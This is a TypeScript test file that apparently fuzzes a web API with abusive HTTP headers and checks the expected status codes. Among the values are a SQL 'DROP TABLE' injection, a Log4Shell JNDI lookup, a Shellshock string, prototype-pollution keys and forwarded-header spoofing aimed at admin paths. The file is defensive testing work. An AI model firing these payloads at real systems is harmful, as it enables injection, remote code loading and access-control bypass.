/** Headers that make work, lie about the request, or would poison a cache. */

import { type Attack, harmless, JSON_TYPE, job, request, type Target } from './attack.js';

const BODY = '{"items":[{"data":"1"}]}';
const INVALID_KEY = '400 invalid_input:  invalid_header';

const idempotent = (name: string, key: string): Attack =>
  job(name, [JSON_TYPE, `Idempotency-Key: ${key}`], BODY, INVALID_KEY);
const download = (name: string, outcome: string, ...headers: string[]): Attack => ({
  name,
  request: (target: Target) => request(`GET /api/v1/jobs/${target.jobId}/download`, headers)(target),
  outcome,
});
const ignored = (line: string): Attack => ({
  name: `${line.slice(0, 60)} is ignored`,
  request: request('GET /api/v1/credits', [line]),
  outcome: '200',
});
const range = (name: string, value: string, outcome: string): Attack => download(name, outcome, `Range: ${value}`);

export const HEADERS: readonly Attack[] = [
  range('a range a thousand times', `bytes=${Array<string>(1_000).fill('0-').join()}`, '200'),
  range(
    '1,000 bytes one by one',
    `bytes=${Array.from({ length: 1_000 }, (_, index) => `${2 * index}-${2 * index}`).join()}`,
    '200',
  ),
  range('ranges that overlap', 'bytes=0-10,5-15', '200'),
  range('a range the wrong way round', 'bytes=10-0', '200'),
  range('a range with signs', 'bytes=+0-+1', '200'),
  range('a range in hex', 'bytes=0x0-0x1', '200'),
  range('a range of lines', 'lines=0-1', '200'),
  range('ranges of nothing', `bytes=${','.repeat(5_000)}`, '200'),
  range('a range beyond 64 bits', 'bytes=18446744073709551616-', '416 range_not_satisfiable'),
  range(
    'a range from the last of 63 bits',
    'bytes=9223372036854775807-9223372036854775808',
    '416 range_not_satisfiable',
  ),
  range('a range to beyond 64 bits', 'bytes=0-18446744073709551616', '206'),
  range('a suffix beyond 64 bits', 'bytes=-18446744073709551616', '206'),
  range('a suffix of nothing', 'bytes=-0', '416 range_not_satisfiable'),
  range('a range of 10,000 digits', `bytes=${'9'.repeat(10_000)}-`, '416 range_not_satisfiable'),
  download('1,000 tags', '200', `If-None-Match: ${Array<string>(1_000).fill('"a"').join()}`),
  download('tags without an end', '200', `If-None-Match: ${'"'.repeat(10_000)}`),
  download('a date of the year 275760', '304', 'If-Modified-Since: Sat, 13 Sep 275760 00:00:00 GMT'),
  download('a date that is none', '200', `If-Modified-Since: ${'9'.repeat(5_000)}`),
  download('a range of a version that is none', '200', 'Range: bytes=0-1', 'If-Range: W/"*"'),

  idempotent('an Idempotency-Key of 256 characters', 'a'.repeat(256)),
  idempotent('an Idempotency-Key of 10,000 characters', 'a'.repeat(10_000)),
  idempotent('an Idempotency-Key with a space', 'a b'),
  idempotent('an Idempotency-Key of nothing', ''),
  idempotent('an Idempotency-Key beyond ASCII', '\xfc'),
  idempotent('an Idempotency-Key with a tab', 'a\tb'),
  job('two Idempotency-Keys', [JSON_TYPE, 'Idempotency-Key: a', 'Idempotency-Key: b'], BODY, INVALID_KEY),
  job(
    'an Idempotency-Key that is SQL, and no job',
    [JSON_TYPE, "Idempotency-Key: ');DROP/**/TABLE/**/jobs;--"],
    '{',
    '400 invalid_input:  invalid_json',
  ),
  job(
    'an Idempotency-Key called __proto__, and no job',
    [JSON_TYPE, 'Idempotency-Key: __proto__'],
    '{',
    '400 invalid_input:  invalid_json',
  ),

  ignored('X-Forwarded-For: 127.0.0.1'),
  ignored(`X-Forwarded-For: ${'192.0.2.1, '.repeat(1_000)}`),
  ignored("X-Forwarded-For: ' OR 1=1--"),
  ignored('X-Forwarded-Host: elsewhere.example'),
  ignored('X-Forwarded-Proto: javascript'),
  ignored('X-Forwarded-Prefix: /admin'),
  ignored('Forwarded: for=127.0.0.1;host=elsewhere.example'),
  ignored('X-Real-IP: 127.0.0.1'),
  ignored('X-Original-URL: /metrics'),
  ignored('X-Rewrite-URL: /metrics'),
  ignored('X-Request-Id: ${jndi:ldap://elsewhere.example/a}'),
  ignored('User-Agent: () { :;}; /bin/false'),
  ignored('Origin: null'),
  ignored('Referer: http://elsewhere.example/\xff'),
  ignored(`Cookie: ${'a=b; '.repeat(2_000)}`),
  ignored(`Accept: ${'*/*;q=0.1,'.repeat(1_000)}`),
  ignored('Accept: application/xml;q=NaN'),
  ignored(`Accept-Encoding: ${'gzip;q=0.1,'.repeat(1_000)}`),
  ignored(`Accept-Language: ${'-'.repeat(10_000)}`),
  ignored('Max-Forwards: -1'),
  ignored('TE: trailers, deflate;q=0.5'),
  ignored('Upgrade: websocket'),
  ignored('Cache-Control: max-age=99999999999999999999'),
  ignored('__proto__: a'),
  ignored('constructor: a'),
  { name: 'another host', request: request('GET http://elsewhere.example/api/v1/credits', []), outcome: '200' },
  {
    name: '201 headers',
    request: request('GET /api/v1/credits', Array<string>(201).fill('A: b')),
    outcome: '400 invalid_input:  invalid_header',
  },
  {
    name: 'headers of 16 KiB',
    request: request('GET /api/v1/credits', [`A: ${'b'.repeat(16_384)}`]),
    outcome: '431 invalid_input',
  },
  harmless('an expectation that nobody knows', [JSON_TYPE, 'Expect: everything'], BODY),
];
